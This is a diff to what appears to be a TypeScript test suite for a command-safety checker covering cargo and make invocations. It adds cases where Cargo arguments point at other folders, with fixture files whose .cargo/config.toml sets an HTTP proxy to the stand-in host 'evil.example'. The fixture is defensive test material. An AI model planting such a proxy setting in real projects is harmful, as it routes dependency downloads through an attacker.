@@ -182,7 +182,22 @@ const parentsOfCargo: Parent[] = [
   { parent: ["cargo", "install"] },
   { parent: ["cargo", "b2"] },
   { parent: ["cargo-add", "add"] },
+  { parent: ["cargo", "add", "serde", "--features=derive", "-q"], taken: true },
   { parent: ["make", "all"], taken: true },
+  // Words that may name a folder whose configuration Cargo reads: whatever is there.
+  ...[
+    ["run", "--", "other"],
+    ["add", "--path", "other"],
+    ["add", "--path=other"],
+    ["build", "--target-dir", "other"],
+    ["build", "-Cother"],
+    ["vendor", "other"],
+    ["fetch", "--config", "other/config.toml"],
+    ["fetch", "--config=net.retry=2"],
+  ].map(([subcommand, ...words]): Parent => ({
+    parent: ["cargo", subcommand!, ...words],
+    files: { "other/config.toml": "", "other/.cargo/config.toml": '[http]\nproxy = "http://evil.example:1"\n' },
+  })),
   { parent: ["cargo", "build"], files: { ".cargo/config.toml": "[build]\njobs = 1\n" } },
   { parent: ["cargo", "build"], files: { ".cargo/config.toml": '[http]\nproxy = "http://evil.example:1"\n' } },
   { parent: ["make", "all"], files: { ".cargo/config": "" } },
